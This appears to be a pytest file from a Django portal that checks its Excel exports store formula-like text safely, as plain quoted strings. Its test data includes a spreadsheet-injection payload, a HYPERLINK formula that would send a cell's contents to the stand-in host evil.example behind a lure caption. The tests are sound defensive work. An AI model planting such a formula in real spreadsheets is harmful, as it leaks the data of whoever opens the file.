"""Formula-safe Excel: text that a spreadsheet would take for a formula (= + - @,
or a tab or carriage return first) is written as text, in every sheet we write."""

import datetime
import io

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from congress_portal.ledgers import write_xlsx
from congress_portal.models import SheetJob
from tests.access import client_as
from tests.deputies.factories import DeputyFactory
from tests.liaison_stations.factories import StationFactory, VisitFactory
from tests.sheets import run_export, sheet_cells

INJECTION = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")'
FORMULA_LIKE = [INJECTION, "+8613812345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def written(*values):
    """The cells of one row written by the ledgers' writer, read back."""
    output = io.BytesIO()
    write_xlsx(output, "表", ["列"] * len(values), [list(values)])
    output.seek(0)
    return list(load_workbook(output).active.iter_rows())[1]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_that_looks_like_a_formula_is_written_as_text(text):
    (cell,) = written(text)

    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return as a newline
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_numbers_dates_and_plain_text_keep_their_types():
    cells = written(3, 2.5, datetime.date(2026, 11, 21), "小区=噪音", None)

    assert [cell.data_type for cell in cells[:4]] == ["n", "n", "d", "s"]
    assert cells[2].value == datetime.datetime(2026, 11, 21)
    assert not any(cell.quotePrefix for cell in cells)


def test_characters_excel_cannot_hold_do_not_fail_the_sheet():
    (cell,) = written("垃圾\x00清运\x1b")

    assert cell.value == "垃圾清运"


def test_a_matter_with_a_formula_is_text_in_the_visit_ledger(
    staff, street, django_capture_on_commit_callbacks
):
    VisitFactory(station=StationFactory(street=street), matter=INJECTION)

    job = run_export(staff, "visit_ledger", "", django_capture_on_commit_callbacks)

    matter = sheet_cells(job)[1][4]
    assert (matter.data_type, matter.value) == ("s", INJECTION)


def test_an_employer_with_a_formula_is_text_in_the_roster_export(
    staff, street, django_capture_on_commit_callbacks
):
    DeputyFactory(street=street, name="周晓梅", employer=INJECTION)

    with django_capture_on_commit_callbacks(execute=True):
        client_as(staff).post(reverse("admin:deputies_deputy_export"), {"format": "0"})

    header, row = sheet_cells(SheetJob.objects.get())[:2]
    employer = row[[cell.value for cell in header].index("工作单位")]
    assert (employer.data_type, employer.value) == ("s", INJECTION)


def test_import_export_escapes_formulae_in_its_own_exports():
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True
